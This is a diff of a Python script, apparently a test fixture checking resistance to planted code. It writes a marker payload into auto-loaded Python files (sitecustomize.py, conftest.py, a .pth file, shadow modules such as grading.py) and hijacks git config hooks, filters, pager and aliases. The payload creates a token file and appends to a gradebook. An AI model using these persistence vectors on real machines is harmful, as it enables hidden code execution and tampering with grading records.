@@ -4,7 +4,16 @@ import subprocess
 
 evil = f"open('/tmp/{world.token}', 'w').close(); open({world.gradebook!r}, 'a').write('planted')\n"
 home, here = pathlib.Path(os.environ["HOME"]), pathlib.Path()
-for place in ("sitecustomize.py", "usercustomize.py", "conftest.py", "json.py", "mlflow.py", "grading.py", "setup.py", "ipython_config.py"):
+for place in (
+    "sitecustomize.py",
+    "usercustomize.py",
+    "conftest.py",
+    "json.py",
+    "mlflow.py",
+    "grading.py",
+    "setup.py",
+    "ipython_config.py",
+):
     (here / place).write_text(evil)
     (home / place).write_text(evil)
 (here / "evil.pth").write_text("import os; " + evil)
@@ -21,7 +30,7 @@ for name in ("pre-commit", "post-checkout", "post-index-change", "fsmonitor", "r
 hook = (git / "hooks" / "fsmonitor").resolve()
 (git / "config").write_text(
     f"[core]\n repositoryformatversion = 0\n fsmonitor = {hook}\n hooksPath = {hook.parent}\n sshCommand = {hook}\n pager = {hook}\n"
-    f"[filter \"evil\"]\n clean = {hook}\n smudge = {hook}\n required = true\n[diff \"evil\"]\n textconv = {hook}\n command = {hook}\n"
+    f'[filter "evil"]\n clean = {hook}\n smudge = {hook}\n required = true\n[diff "evil"]\n textconv = {hook}\n command = {hook}\n'
     f"[alias]\n rev-parse = !{hook}\n"
 )
 (here / ".gitattributes").write_text("* filter=evil diff=evil\n")
